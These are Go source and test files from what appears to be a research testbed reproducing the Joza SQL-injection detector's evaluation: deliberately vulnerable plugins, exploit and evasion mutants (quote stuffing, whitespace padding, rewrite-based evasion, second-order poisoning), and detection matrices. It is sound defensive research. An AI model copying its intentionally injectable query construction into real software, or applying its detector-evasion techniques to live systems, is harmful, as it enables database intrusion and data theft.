		return nil, err
	}
	mk := func(opts ...webapp.AppOption) *webapp.App {
		app := l.buildApp(opts...)
		app.Install(soPlugin)
		return app
	}
	return &matrixApps{
		unprotected:   mk(),
		nti:           mk(webapp.WithGuard(ntiG)),
		pti:           mk(webapp.WithGuard(ptiG)),
		profile:       mk(webapp.WithGuard(profileG)),
		hybrid:        mk(webapp.WithGuard(hybridG)),
		hybridProfile: mk(webapp.WithGuard(hybridProfileG)),
	}, nil
}

// probe runs one request against all five technique apps and folds the
// blocks into counts.
func (a *matrixApps) probe(counts *TechniqueCounts, run func(app *webapp.App) (*webapp.Page, error)) error {
	for _, p := range []struct {
		app  *webapp.App
		dest *int
	}{
		{a.nti, &counts.NTI},
		{a.pti, &counts.PTI},
		{a.profile, &counts.Profile},
		{a.hybrid, &counts.Hybrid},
		{a.hybridProfile, &counts.HybridProfile},
	} {
		page, err := run(p.app)
		if err != nil {
			return err
		}
		if page.Blocked {
			*p.dest++
		}
	}
	return nil
}

// EvaluateMatrix trains profiles on benign traffic and runs the full
// per-technique detection sweep: benign false positives, the Table IV
// attack corpus, and the two gap classes. The returned matrix carries the
// trained store for persistence.
func (l *Lab) EvaluateMatrix() (*DetectionMatrix, error) {
	st := &storedState{value: secondOrderBenign}
	store, soPlugin, err := l.trainProfiles(st)
	if err != nil {
		return nil, err
	}
	apps, err := l.buildMatrixApps(store, soPlugin)
	if err != nil {
		return nil, err
	}
	m := &DetectionMatrix{Store: store}
	m.ProfileSites = store.Sites()
	m.ProfileSkeletons = store.Skeletons()

	specRun := func(s *Spec, payload string) func(app *webapp.App) (*webapp.Page, error) {
		return func(app *webapp.App) (*webapp.Page, error) {
			return app.Handle(s.Name, l.Request(s, payload))
		}
	}
	soRun := func(app *webapp.App) (*webapp.Page, error) {
		return app.Handle(secondOrderPlugin, &webapp.Request{Get: map[string]string{"go": "1"}})
	}

	// Benign row: the training traffic replayed against every technique;
	// every block is a false positive.
	benign := MatrixRow{Class: ClassBenign}
	for _, s := range l.Specs {
		for _, v := range benignTrainingValues(s) {
			benign.Cases++
			if err := apps.probe(&benign.Detected, specRun(s, v)); err != nil {
				return nil, fmt.Errorf("benign %s: %w", s.Name, err)
			}
		}
	}
	benign.Cases++
	if err := apps.probe(&benign.Detected, soRun); err != nil {
		return nil, fmt.Errorf("benign %s: %w", secondOrderPlugin, err)
	}
	m.Rows = append(m.Rows, benign)

	// Original exploits and NTI-evasion mutants, all 50 plugins each.
	original := MatrixRow{Class: ClassOriginal}
	ntiMut := MatrixRow{Class: ClassNTIMutant}
	ptiMut := MatrixRow{Class: ClassPTIMutant}
	tl := evasion.NewTaintless(l.Fragments)
	for _, s := range l.Specs {
		original.Cases++
		if err := apps.probe(&original.Detected, specRun(s, s.Exploit)); err != nil {
			return nil, fmt.Errorf("original %s: %w", s.Name, err)
		}
		mutant, _ := l.ntiMutation(s)
		ntiMut.Cases++
		if err := apps.probe(&ntiMut.Detected, specRun(s, mutant)); err != nil {
			return nil, fmt.Errorf("nti-mutant %s: %w", s.Name, err)
		}
		// PTI-evasion rewrites: only Taintless's working adaptations (the
		// paper's 13) form attack cases.
		rewrite, ok := tl.Evade(s.Exploit)
		if !ok {
			continue
		}
		baseline, err := l.Run(apps.unprotected, s, s.Benign)
		if err != nil {
			return nil, err
		}
		works, err := l.exploitWorks(s, rewrite, l.rewriteFalse(tl, s), baseline)
		if err != nil {
			return nil, fmt.Errorf("pti-mutant %s: %w", s.Name, err)
		}
		if !works {
			continue
		}
		ptiMut.Cases++
		if err := apps.probe(&ptiMut.Detected, specRun(s, rewrite)); err != nil {
			return nil, fmt.Errorf("pti-mutant %s: %w", s.Name, err)
		}
	}
	m.Rows = append(m.Rows, original, ntiMut, ptiMut)

	// Gap class 1: fragment-rebuilt short payload on the base64 plugin.
	fr := MatrixRow{Class: ClassFragmentRebuilt, Cases: 1}
	frSpec := l.SpecByName(fragmentRebuiltPlugin)
	if frSpec == nil {
		return nil, fmt.Errorf("missing plugin %s", fragmentRebuiltPlugin)
	}
	frBaseline, err := l.Run(apps.unprotected, frSpec, frSpec.Benign)
	if err != nil {
		return nil, err
	}
	frPage, err := l.Run(apps.unprotected, frSpec, fragmentRebuiltPayload)
	if err != nil {
		return nil, err
	}
	if frPage.DBError || frPage.Rows <= frBaseline.Rows {
		return nil, fmt.Errorf("fragment-rebuilt payload does not exploit the unprotected app: %+v", frPage)
	}
	if err := apps.probe(&fr.Detected, specRun(frSpec, fragmentRebuiltPayload)); err != nil {
		return nil, fmt.Errorf("fragment-rebuilt: %w", err)
	}
	m.Rows = append(m.Rows, fr)

	// Gap class 2: second-order-shaped. Poison the stored value and replay
	// the same harmless request.
	so := MatrixRow{Class: ClassSecondOrder, Cases: 1}
	soBaseline, err := apps.unprotected.Handle(secondOrderPlugin, &webapp.Request{Get: map[string]string{"go": "1"}})
	if err != nil {
		return nil, err
	}
	st.value = secondOrderPayload
	soPage, err := soRun(apps.unprotected)
	if err != nil {
		return nil, err
	}
	if soPage.DBError || soPage.Rows <= soBaseline.Rows {
		return nil, fmt.Errorf("second-order payload does not exploit the unprotected app: %+v", soPage)
	}
	if err := apps.probe(&so.Detected, soRun); err != nil {
		return nil, fmt.Errorf("second-order: %w", err)
	}
	st.value = secondOrderBenign
	m.Rows = append(m.Rows, so)

	for _, r := range m.Rows {
		m.TotalCases += r.Cases
	}
	return m, nil
}

// FormatMatrix renders the detection matrix as the Table-IV-style text
// report.
func FormatMatrix(m *DetectionMatrix) string {
	out := "DETECTION MATRIX: per-technique detection by case class\n"
	out += fmt.Sprintf("(%d cases; trained profiles: %d sites, %d skeletons; benign row counts false positives)\n",
		m.TotalCases, m.ProfileSites, m.ProfileSkeletons)
	out += fmt.Sprintf("%-20s %6s %9s %9s %9s %9s %14s\n",
		"Class", "Cases", "NTI", "PTI", "Profile", "NTI+PTI", "NTI+PTI+Prof")
	for _, r := range m.Rows {
		d := r.Detected
		out += fmt.Sprintf("%-20s %6d %5d/%-3d %5d/%-3d %5d/%-3d %5d/%-3d %10d/%-3d\n",
			r.Class, r.Cases,
			d.NTI, r.Cases, d.PTI, r.Cases, d.Profile, r.Cases,
			d.Hybrid, r.Cases, d.HybridProfile, r.Cases)
	}
	out += "(fragment-rebuilt and second-order are the profile stage's gap classes:\n" +
		" both taint analyzers miss them by construction, the skeleton profile does not)\n"
	return out
}

// MatrixJSON serializes the matrix for the CI artifact.
func MatrixJSON(m *DetectionMatrix) ([]byte, error) {
	return json.MarshalIndent(m, "", "  ")
}

// CompareMatrix gates a matrix against a golden baseline: a regression is
// any attack row where the hybrid+profile technique detects fewer cases
// than the baseline (with at least as many cases evaluated), or any
// benign false positive appearing in a profile-bearing technique.
// Improvements are reported as warnings, not failures.
func CompareMatrix(golden, got *DetectionMatrix) (regressions, improvements []string) {
	for _, gr := range golden.Rows {
		cur := got.Row(gr.Class)
		if cur == nil {
			regressions = append(regressions, fmt.Sprintf("row %s missing from sweep", gr.Class))
			continue
		}
		if gr.Class == ClassBenign {
			if cur.Detected.Profile > gr.Detected.Profile || cur.Detected.HybridProfile > gr.Detected.HybridProfile {
				regressions = append(regressions, fmt.Sprintf(
					"benign false positives: profile %d (golden %d), hybrid+profile %d (golden %d)",
					cur.Detected.Profile, gr.Detected.Profile,
					cur.Detected.HybridProfile, gr.Detected.HybridProfile))
			}
			continue
		}
		if cur.Cases < gr.Cases {
			regressions = append(regressions, fmt.Sprintf(
				"%s: %d cases evaluated, golden has %d", gr.Class, cur.Cases, gr.Cases))
			continue
		}
		if cur.Detected.HybridProfile < gr.Detected.HybridProfile {
			regressions = append(regressions, fmt.Sprintf(
				"%s: hybrid+profile detects %d/%d, golden %d/%d",
				gr.Class, cur.Detected.HybridProfile, cur.Cases,
				gr.Detected.HybridProfile, gr.Cases))
		} else if cur.Detected.HybridProfile > gr.Detected.HybridProfile || cur.Cases > gr.Cases {
			improvements = append(improvements, fmt.Sprintf(
				"%s: hybrid+profile detects %d/%d, golden %d/%d",
				gr.Class, cur.Detected.HybridProfile, cur.Cases,
				gr.Detected.HybridProfile, gr.Cases))
		}
	}
	return regressions, improvements
}
