package testbed

import (
	"strings"
	"testing"
)

func TestEvaluateBaselines(t *testing.T) {
	l := lab(t)
	rows, err := l.EvaluateBaselines()
	if err != nil {
		t.Fatal(err)
	}
	byName := map[string]BaselineRow{}
	for _, r := range rows {
		byName[r.Name] = r
	}
	joza := byName["joza-hybrid"]
	waf := byName["regex-waf"]
	candid := byName["candid-shadow"]
	ntiRow := byName["nti"]
	ptiRow := byName["pti"]

	// The hybrid detects everything with zero false positives.
	if joza.Originals != 50 || joza.NTIMutants != 50 || joza.PTIMutants != 50 {
		t.Errorf("joza detection = %+v", joza)
	}
	if joza.FalsePositives != 0 {
		t.Errorf("joza false positives = %d", joza.FalsePositives)
	}

	// The signature WAF false-positives on SQL-shaped prose.
	if waf.FalsePositives == 0 {
		t.Error("WAF should false-positive on the prose corpus")
	}
	// And misses the encoded original (base64) at minimum.
	if waf.Originals >= 50 {
		t.Errorf("WAF originals = %d, expected misses", waf.Originals)
	}

	// CANDID shares NTI's blindness: both miss the NTI-targeted mutants.
	if candid.NTIMutants > 3 {
		t.Errorf("candid NTI-mutants = %d, expected ~0", candid.NTIMutants)
	}
	if ntiRow.NTIMutants != 0 {
		t.Errorf("nti NTI-mutants = %d, want 0", ntiRow.NTIMutants)
	}
	// PTI misses exactly the 13 Taintless-adapted exploits.
	if ptiRow.PTIMutants != 50-13 {
		t.Errorf("pti PTI-mutants = %d, want 37", ptiRow.PTIMutants)
	}
	// Neither Joza component false-positives on prose.
	if ntiRow.FalsePositives != 0 || ptiRow.FalsePositives != 0 {
		t.Errorf("component FPs: nti=%d pti=%d", ntiRow.FalsePositives, ptiRow.FalsePositives)
	}

	out := FormatBaselines(rows)
	for _, want := range []string{"BASELINE COMPARISON", "regex-waf", "joza-hybrid"} {
		if !strings.Contains(out, want) {
			t.Errorf("format missing %q", want)
		}
	}
}
