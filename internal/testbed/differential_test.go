package testbed

import (
	"fmt"
	"slices"
	"testing"

	"joza/internal/evasion"
	"joza/internal/nti"
)

// TestMatcherEnginesAgreeOnTestbed drives every testbed payload family —
// benign baselines, original exploits, NTI-targeted mutants, Taintless
// PTI rewrites and the prose false-positive corpus — through the default
// bit-parallel+prefilter analyzer and the cell-at-a-time Sellers
// configuration, and requires bit-identical verdicts, markings and
// reasons. This is the guarantee the optimized engine is built on: the
// scan only ever rejects, so every Table I-IV assertion holds unchanged.
func TestMatcherEnginesAgreeOnTestbed(t *testing.T) {
	lab, err := NewLab()
	if err != nil {
		t.Fatal(err)
	}
	bitpar := nti.MustNew()
	sellers := nti.MustNew(nti.WithSellersMatcher(), nti.WithoutPrefilter())

	attacks := 0
	check := func(label, query string, inputs []nti.Input) {
		t.Helper()
		got := bitpar.Analyze(query, nil, inputs)
		want := sellers.Analyze(query, nil, inputs)
		if got.Attack != want.Attack {
			t.Errorf("%s: attack = %v (bit-parallel) vs %v (sellers)", label, got.Attack, want.Attack)
		}
		if !slices.Equal(got.Markings, want.Markings) {
			t.Errorf("%s: markings diverge\n  bit-parallel: %+v\n  sellers:      %+v", label, got.Markings, want.Markings)
		}
		if !slices.Equal(got.Reasons, want.Reasons) {
			t.Errorf("%s: reasons diverge\n  bit-parallel: %+v\n  sellers:      %+v", label, got.Reasons, want.Reasons)
		}
		if want.Attack {
			attacks++
		}
	}

	tl := evasion.NewTaintless(lab.Fragments)
	cases := 0
	for _, s := range lab.Specs {
		payloads := []struct{ label, value string }{
			{"benign", s.Benign},
			{"exploit", s.Exploit},
		}
		ntiPayload, _ := lab.ntiMutation(s)
		payloads = append(payloads, struct{ label, value string }{"nti-mutant", ntiPayload})
		if rewritten, ok := tl.Evade(s.Exploit); ok {
			payloads = append(payloads, struct{ label, value string }{"pti-mutant", rewritten})
		}
		for _, p := range payloads {
			inputs := []nti.Input{
				{Source: "get", Name: s.Param, Value: s.TransportValue(p.value)},
			}
			check(fmt.Sprintf("%s/%s", s.Name, p.label), lab.builtQuery(s, p.value), inputs)
			cases++
		}
	}

	quoted := lab.SpecByName("gd-star-rating")
	if quoted == nil {
		t.Fatal("missing quoted spec for the prose corpus")
	}
	for i, prose := range proseCorpus {
		inputs := []nti.Input{{Source: "get", Name: quoted.Param, Value: prose}}
		check(fmt.Sprintf("prose-%d", i), lab.builtQuery(quoted, prose), inputs)
		cases++
	}

	if cases < 150 {
		t.Fatalf("only %d cases exercised; the testbed should produce 150+", cases)
	}
	if attacks == 0 {
		t.Fatal("no case was flagged as an attack; the differential never exercised detection")
	}
	t.Logf("%d cases, %d detected attacks, engines bit-identical", cases, attacks)
}
