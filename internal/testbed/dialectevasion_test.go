package testbed

import "testing"

// TestDialectEvasionRow asserts the acceptance claim of the dialect
// refactor: at least two payload classes exist that the MySQL-dialect
// guard misses and the Postgres-dialect guard catches on every case,
// and replaying the benign detection-matrix corpus under the MySQL
// guard produces zero false positives.
func TestDialectEvasionRow(t *testing.T) {
	lab, err := NewLab()
	if err != nil {
		t.Fatal(err)
	}
	res, err := lab.EvaluateDialectEvasion()
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) < 2 {
		t.Fatalf("want >= 2 payload classes, got %d", len(res.Rows))
	}
	for _, row := range res.Rows {
		if row.Cases == 0 {
			t.Errorf("%s: no cases evaluated", row.Class)
		}
		if row.MissedMySQL != row.Cases || row.CaughtPostgres != row.Cases {
			t.Errorf("%s: missed %d/%d under MySQL, caught %d/%d under Postgres; want all",
				row.Class, row.MissedMySQL, row.Cases, row.CaughtPostgres, row.Cases)
		}
	}
	if res.BenignCases < 250 {
		t.Errorf("benign row replayed only %d cases; the matrix row has 266", res.BenignCases)
	}
	if res.BenignFPs != 0 {
		t.Errorf("benign row: %d false positives under the MySQL guard, want 0", res.BenignFPs)
	}
	t.Log(FormatDialectEvasion(res))
}
