package testbed

import (
	"fmt"
	"strings"

	"joza/internal/evasion"
	"joza/internal/nti"
	"joza/internal/sqlgen"
	"joza/internal/webapp"
)

// Outcome records the Table IV row for one plugin: whether each analyzer
// detected the original exploit and its targeted mutation, and whether the
// hybrid (Joza) detected every working form.
type Outcome struct {
	Spec *Spec

	// OriginalWorks confirms the exploit succeeds on the unprotected app.
	OriginalWorks bool

	// NTIOriginal / PTIOriginal: did the lone analyzer block the original?
	NTIOriginal bool
	PTIOriginal bool

	// NTIMutant is the NTI-evasion form of the exploit; NTIMutantWorks
	// confirms it still exploits the unprotected app; NTIMutated is
	// whether NTI detected it (the evaluation expects false everywhere).
	NTIMutant      string
	NTIMutantWorks bool
	NTIMutated     bool

	// PTIMutant is Taintless's rewrite; PTIAdapted is whether the rewrite
	// both works and evades PTI (the paper's 13/50); PTIMutated is whether
	// PTI detected the mutant.
	PTIMutant  string
	PTIAdapted bool
	PTIMutated bool

	// Joza is whether the hybrid blocked the original and every working
	// mutant.
	Joza bool
}

// Evaluate runs the full Table IV experiment over every plugin.
func (l *Lab) Evaluate() ([]*Outcome, error) {
	tl := evasion.NewTaintless(l.Fragments)
	out := make([]*Outcome, 0, len(l.Specs))
	for _, s := range l.Specs {
		o, err := l.evaluateSpec(tl, s)
		if err != nil {
			return nil, fmt.Errorf("plugin %s: %w", s.Name, err)
		}
		out = append(out, o)
	}
	return out, nil
}

func (l *Lab) evaluateSpec(tl *evasion.Taintless, s *Spec) (*Outcome, error) {
	o := &Outcome{Spec: s}

	baseline, err := l.Run(l.Unprotected, s, s.Benign)
	if err != nil {
		return nil, err
	}
	if baseline.Blocked || baseline.DBError {
		return nil, fmt.Errorf("benign baseline failed: %+v", baseline)
	}

	// Original exploit.
	works, err := l.exploitWorks(s, s.Exploit, s.ExploitFalse, baseline)
	if err != nil {
		return nil, err
	}
	o.OriginalWorks = works
	if o.NTIOriginal, err = l.blocked(l.NTIOnly, s, s.Exploit); err != nil {
		return nil, err
	}
	if o.PTIOriginal, err = l.blocked(l.PTIOnly, s, s.Exploit); err != nil {
		return nil, err
	}
	jozaOriginal, err := l.blocked(l.Protected, s, s.Exploit)
	if err != nil {
		return nil, err
	}

	// NTI-targeted mutation.
	ntiMutant, ntiMutantFalse := l.ntiMutation(s)
	o.NTIMutant = ntiMutant
	if o.NTIMutantWorks, err = l.exploitWorks(s, ntiMutant, ntiMutantFalse, baseline); err != nil {
		return nil, err
	}
	if o.NTIMutated, err = l.blocked(l.NTIOnly, s, ntiMutant); err != nil {
		return nil, err
	}
	jozaNTIMutant, err := l.blocked(l.Protected, s, ntiMutant)
	if err != nil {
		return nil, err
	}

	// PTI-targeted mutation (Taintless).
	ptiMutant, rewriteOK := tl.Evade(s.Exploit)
	o.PTIMutant = ptiMutant
	jozaPTIMutant := true
	if rewriteOK {
		mutWorks, err := l.exploitWorks(s, ptiMutant, l.rewriteFalse(tl, s), baseline)
		if err != nil {
			return nil, err
		}
		detected, err := l.blocked(l.PTIOnly, s, ptiMutant)
		if err != nil {
			return nil, err
		}
		o.PTIMutated = detected
		o.PTIAdapted = mutWorks && !detected
		if mutWorks {
			if jozaPTIMutant, err = l.blocked(l.Protected, s, ptiMutant); err != nil {
				return nil, err
			}
		}
	} else {
		// Taintless could not adapt the exploit; PTI keeps detecting the
		// best-effort rewrite (and the original).
		detected, err := l.blocked(l.PTIOnly, s, ptiMutant)
		if err != nil {
			return nil, err
		}
		o.PTIMutated = detected
	}

	o.Joza = jozaOriginal && jozaNTIMutant && jozaPTIMutant
	return o, nil
}

// ntiMutation picks the evasion matching the plugin's transformation
// surface: quote stuffing for numeric contexts under magic quotes,
// whitespace padding for quoted contexts (where the plugin strips slashes
// back), and a no-op for base64 plugins (NTI is already blind there).
func (l *Lab) ntiMutation(s *Spec) (string, string) {
	const threshold = nti.DefaultThreshold
	mutate := func(p string) string {
		if p == "" {
			return ""
		}
		if s.Decode == DecodeBase64 {
			return p
		}
		if s.Quoted {
			return evasion.WhitespacePadding(p, threshold)
		}
		return evasion.QuoteStuffing(p, threshold)
	}
	return mutate(s.Exploit), mutate(s.ExploitFalse)
}

// rewriteFalse adapts the blind false-condition payload the same way the
// true payload was adapted, so the oracle check remains meaningful.
func (l *Lab) rewriteFalse(tl *evasion.Taintless, s *Spec) string {
	if s.ExploitFalse == "" {
		return ""
	}
	rewritten, ok := tl.Evade(s.ExploitFalse)
	if !ok {
		return s.ExploitFalse
	}
	return rewritten
}

// blocked runs the payload against an app configuration and reports
// whether the request was blocked.
func (l *Lab) blocked(app *webapp.App, s *Spec, payload string) (bool, error) {
	page, err := l.Run(app, s, payload)
	if err != nil {
		return false, err
	}
	return page.Blocked, nil
}

// exploitWorks verifies a payload actually exploits the unprotected app,
// using the observable appropriate to the attack class.
func (l *Lab) exploitWorks(s *Spec, payload, payloadFalse string, baseline *webapp.Page) (bool, error) {
	page, err := l.Run(l.Unprotected, s, payload)
	if err != nil {
		return false, err
	}
	if page.Blocked {
		return false, fmt.Errorf("unprotected app blocked a query")
	}
	switch s.Type {
	case sqlgen.Tautology:
		return !page.DBError && page.Rows > baseline.Rows, nil
	case sqlgen.Union:
		return !page.DBError && page.Rows > 0 && leaked(page), nil
	case sqlgen.StandardBlind:
		if page.DBError || page.Rows == 0 {
			return false, nil
		}
		if payloadFalse == "" {
			return false, nil
		}
		falsePage, err := l.Run(l.Unprotected, s, payloadFalse)
		if err != nil {
			return false, err
		}
		return !falsePage.DBError && falsePage.Rows == 0, nil
	case sqlgen.DoubleBlind:
		if page.DBError || page.Delay.Seconds() < 1 {
			return false, nil
		}
		if payloadFalse == "" {
			return false, nil
		}
		falsePage, err := l.Run(l.Unprotected, s, payloadFalse)
		if err != nil {
			return false, err
		}
		return falsePage.Delay < page.Delay, nil
	default:
		return false, fmt.Errorf("unknown attack type %v", s.Type)
	}
}

// leaked reports whether a page contains data an attack exfiltrated:
// seeded secrets, the database banner, or session identity.
func leaked(page *webapp.Page) bool {
	for _, marker := range []string{leakSecret, "5.5.0-minidb", "webapp@localhost", "wordpress"} {
		if strings.Contains(page.Body, marker) {
			return true
		}
	}
	return false
}

// TypeCounts returns the Table I classification of the testbed.
func TypeCounts(specs []*Spec) map[sqlgen.AttackType]int {
	out := make(map[sqlgen.AttackType]int, 4)
	for _, s := range specs {
		out[s.Type]++
	}
	return out
}

// BaselineResult aggregates Table II.
type BaselineResult struct {
	// Testbed exploits: detections out of Total.
	NTIDetected int
	PTIDetected int
	Total       int
	// SQLMap-generated payloads across the four selected plugins.
	SQLMapNTI   int
	SQLMapPTI   int
	SQLMapTotal int
}

// sqlmapPlugins names the four plugins (one per attack class) driven with
// generated payloads, as in Section V-A.
var sqlmapPlugins = []string{"a-to-z-category-listing", "eventify", "ump-polls", "advertiser"}

// EvaluateBaseline runs the Table II experiment: every original exploit
// against NTI and PTI individually, plus 40 generated attack variants per
// selected plugin.
func (l *Lab) EvaluateBaseline(perPlugin int) (*BaselineResult, error) {
	res := &BaselineResult{}
	for _, s := range l.Specs {
		res.Total++
		ntiB, err := l.blocked(l.NTIOnly, s, s.Exploit)
		if err != nil {
			return nil, err
		}
		ptiB, err := l.blocked(l.PTIOnly, s, s.Exploit)
		if err != nil {
			return nil, err
		}
		if ntiB {
			res.NTIDetected++
		}
		if ptiB {
			res.PTIDetected++
		}
	}
	for _, name := range sqlmapPlugins {
		s := l.SpecByName(name)
		if s == nil {
			return nil, fmt.Errorf("missing sqlmap plugin %s", name)
		}
		payloads, err := l.validPayloads(s, perPlugin)
		if err != nil {
			return nil, err
		}
		for _, p := range payloads {
			res.SQLMapTotal++
			ntiB, err := l.blocked(l.NTIOnly, s, p)
			if err != nil {
				return nil, err
			}
			ptiB, err := l.blocked(l.PTIOnly, s, p)
			if err != nil {
				return nil, err
			}
			if ntiB {
				res.SQLMapNTI++
			}
			if ptiB {
				res.SQLMapPTI++
			}
		}
	}
	return res, nil
}

// validPayloads generates attack variants for the plugin's class and keeps
// the first n that demonstrably work against the unprotected app (SQLMap
// reports only confirmed payloads).
func (l *Lab) validPayloads(s *Spec, n int) ([]string, error) {
	baseline, err := l.Run(l.Unprotected, s, s.Benign)
	if err != nil {
		return nil, err
	}
	candidates := sqlgen.Generate(s.Type, sqlgen.Context{Quoted: s.Quoted, Columns: 2}, n*3)
	var out []string
	for _, p := range candidates {
		if len(out) >= n {
			break
		}
		page, err := l.Run(l.Unprotected, s, p)
		if err != nil {
			return nil, err
		}
		if page.Blocked || page.DBError {
			continue
		}
		valid := false
		switch s.Type {
		case sqlgen.Tautology:
			valid = page.Rows > baseline.Rows
		case sqlgen.Union:
			valid = page.Rows > 0
		case sqlgen.StandardBlind:
			valid = true // executed boolean probe
		case sqlgen.DoubleBlind:
			valid = page.Delay.Seconds() >= 1 || page.Rows > 0
		}
		if valid {
			out = append(out, p)
		}
	}
	return out, nil
}

// Figure6 reproduces the four exploit forms of Figure 6 for one plugin:
// original, PTI-evading (Taintless), NTI-evading (quote stuffing), and the
// combined attempt that the hybrid still catches.
type Figure6 struct {
	Plugin   string
	Original string
	PTIEvade string
	NTIEvade string
	Combined string
	// Detected[form][analyzer] — analyzer is "NTI", "PTI" or "Joza".
	Detected map[string]map[string]bool
}

// EvaluateFigure6 runs the Figure 6 demonstration on the named plugin.
func (l *Lab) EvaluateFigure6(plugin string) (*Figure6, error) {
	s := l.SpecByName(plugin)
	if s == nil {
		return nil, fmt.Errorf("no such plugin %s", plugin)
	}
	tl := evasion.NewTaintless(l.Fragments)
	ptiEvade, _ := tl.Evade(s.Exploit)
	ntiEvade := evasion.QuoteStuffing(s.Exploit, nti.DefaultThreshold)
	combined := evasion.QuoteStuffing(ptiEvade, nti.DefaultThreshold)
	fig := &Figure6{
		Plugin:   plugin,
		Original: s.Exploit,
		PTIEvade: ptiEvade,
		NTIEvade: ntiEvade,
		Combined: combined,
		Detected: make(map[string]map[string]bool, 4),
	}
	forms := map[string]string{
		"original":  fig.Original,
		"pti-evade": fig.PTIEvade,
		"nti-evade": fig.NTIEvade,
		"combined":  fig.Combined,
	}
	for form, payload := range forms {
		ntiB, err := l.blocked(l.NTIOnly, s, payload)
		if err != nil {
			return nil, err
		}
		ptiB, err := l.blocked(l.PTIOnly, s, payload)
		if err != nil {
			return nil, err
		}
		jozaB, err := l.blocked(l.Protected, s, payload)
		if err != nil {
			return nil, err
		}
		fig.Detected[form] = map[string]bool{"NTI": ntiB, "PTI": ptiB, "Joza": jozaB}
	}
	return fig, nil
}

// CaseOutcome is the Table IV footer: one case-study application.
type CaseOutcome struct {
	Case *CaseStudy
	// Works confirms the exploit against the unprotected app.
	Works bool
	NTI   bool
	PTI   bool
	Joza  bool
}

// EvaluateCases runs the three case studies.
func EvaluateCases() ([]*CaseOutcome, error) {
	cases, err := CaseStudies()
	if err != nil {
		return nil, err
	}
	var out []*CaseOutcome
	for _, cs := range cases {
		baseline, err := RunCase(cs, cs.Unprotected, cs.Benign)
		if err != nil {
			return nil, fmt.Errorf("%s benign: %w", cs.Name, err)
		}
		page, err := RunCase(cs, cs.Unprotected, cs.Exploit)
		if err != nil {
			return nil, fmt.Errorf("%s exploit: %w", cs.Name, err)
		}
		o := &CaseOutcome{Case: cs, Works: cs.Works(page, baseline)}
		for _, probe := range []struct {
			app  *webapp.App
			dest *bool
		}{
			{cs.NTIOnly, &o.NTI},
			{cs.PTIOnly, &o.PTI},
			{cs.Protected, &o.Joza},
		} {
			p, err := RunCase(cs, probe.app, cs.Exploit)
			if err != nil {
				return nil, fmt.Errorf("%s: %w", cs.Name, err)
			}
			*probe.dest = p.Blocked
		}
		out = append(out, o)
	}
	return out, nil
}
