// Package testbed reproduces WP-SQLI-LAB, the security testbed of the Joza
// paper: a WordPress-like application with 50 vulnerable plugins, each
// carrying a pseudo-PHP source (from which PTI extracts fragments), a
// vulnerable query-construction handler, and a working real-world-style
// exploit. Attack-type frequencies match Table I (15 union-based, 17
// standard-blind, 14 double-blind, 4 tautology), and the engineered
// fragment vocabularies make the paper's evaluation outcomes emerge from
// the algorithms themselves: NTI misses the one base64 plugin (Table II's
// 49/50), Taintless can adapt exactly the 13 rich-vocabulary exploits, and
// the hybrid catches everything (Table IV).
//
// The package also includes the three case-study applications (Drupal-,
// Joomla- and osCommerce-style vulnerabilities) of Section V-B.
package testbed

import (
	"fmt"
	"strings"

	"joza/internal/sqlgen"
	"joza/internal/webapp"
)

// InputDecode identifies the plugin-local transformation applied to the
// vulnerable parameter before query construction.
type InputDecode int

// Plugin-local input decodings.
const (
	// DecodeNone uses the (app-transformed) input as-is.
	DecodeNone InputDecode = iota + 1
	// DecodeBase64 base64-decodes the input (the AdRotate pattern that
	// defeats NTI's input/query correspondence).
	DecodeBase64
	// DecodeStripSlashes undoes magic quotes (the classic WordPress plugin
	// bug that re-enables quoted-context injection).
	DecodeStripSlashes
)

// Spec declares one vulnerable plugin.
type Spec struct {
	// Name, Version and Ref identify the plugin as in Table IV.
	Name    string
	Version string
	Ref     string
	// Type is the exploit class per Table I.
	Type sqlgen.AttackType
	// Param is the vulnerable request parameter (always GET in the lab).
	Param string
	// Prefix and Suffix embed the input: query = Prefix + input + Suffix.
	Prefix string
	Suffix string
	// Decode is the plugin-local input transformation.
	Decode InputDecode
	// Quoted marks a quoted-string injection context (implies the exploit
	// needs quote break-out and the plugin uses DecodeStripSlashes).
	Quoted bool
	// Exploit is the raw attack value for Param (before any encoding the
	// attacker applies for transport, e.g. base64 for DecodeBase64).
	Exploit string
	// ExploitFalse is the complementary false-condition payload for blind
	// exploits (empty otherwise).
	ExploitFalse string
	// Benign is a harmless value for Param used as the baseline request.
	Benign string
	// ExtraLiterals are additional string literals in the plugin's source,
	// enriching the global fragment vocabulary.
	ExtraLiterals []string
	// RichVocabulary marks the plugins whose exploits Taintless can adapt
	// (the paper's 13); used only for reporting expectations.
	RichVocabulary bool
}

// DecodeValue applies the plugin-local decoding to a transformed input.
func (s *Spec) DecodeValue(v string) string {
	switch s.Decode {
	case DecodeBase64:
		return webapp.Base64Decode(v)
	case DecodeStripSlashes:
		return StripSlashes(v)
	default:
		return v
	}
}

// StripSlashes reproduces PHP's stripslashes: backslash escapes are
// resolved (the inverse of magic quotes).
func StripSlashes(s string) string {
	var sb strings.Builder
	sb.Grow(len(s))
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' {
			if i+1 >= len(s) {
				break // PHP drops a trailing lone backslash
			}
			i++
			if s[i] == '0' {
				sb.WriteByte(0)
				continue
			}
			sb.WriteByte(s[i])
			continue
		}
		sb.WriteByte(s[i])
	}
	return sb.String()
}

// BuildQuery constructs the query the plugin would issue for the given
// already-app-transformed parameter value.
func (s *Spec) BuildQuery(transformed string) string {
	return s.Prefix + s.DecodeValue(transformed) + s.Suffix
}

// WebPlugin materializes the spec as an installable plugin whose handler
// performs the vulnerable query construction and renders the rows.
func (s *Spec) WebPlugin() *webapp.Plugin {
	spec := s
	return &webapp.Plugin{
		Name:   s.Name,
		Source: s.PHPSource(),
		Handle: func(c *webapp.Ctx) (string, error) {
			q := spec.BuildQuery(c.Get(spec.Param))
			res, err := c.Query(q)
			if err != nil {
				return "", err
			}
			return webapp.RenderRows(res), nil
		},
	}
}

// PHPSource renders the plugin's pseudo-PHP source code. The Joza
// installer extracts the query prefix/suffix and extra literals from it.
func (s *Spec) PHPSource() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "<?php\n/* Plugin Name: %s */\n/* Version: %s */\n", s.Name, s.Version)
	fmt.Fprintf(&sb, "$input = $_GET[%s];\n", phpQuote(s.Param))
	switch s.Decode {
	case DecodeBase64:
		sb.WriteString("$input = base64_decode($input);\n")
	case DecodeStripSlashes:
		sb.WriteString("$input = stripslashes($input);\n")
	}
